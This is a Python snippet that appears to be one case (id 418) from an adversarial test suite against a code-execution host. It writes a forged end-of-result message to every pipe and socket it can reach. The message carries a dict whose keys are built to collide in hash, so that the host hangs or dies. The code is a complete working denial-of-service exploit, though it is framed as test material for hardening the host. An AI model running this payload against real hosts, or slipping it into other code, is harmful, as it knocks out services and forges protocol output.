# id: 418
# name: keys_with_one_hash
# category: protocol
# technique: half of a large dict's keys have the same hash
# breach: hang hang_after host_dead
# looks_like: the host is busy for minutes, all its threads with it
# baseline: credulous
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


prime = 2 ** 61 - 1
same = [i * prime for i in range(1, 60_000)]
other = list(range(70_000))
keys = ', '.join('["int", "%x"], 0' % key if key >= 2 ** 53 else '%d, 0' % key for key in (*same, *other))
spray(done('["dict", %s]' % keys))
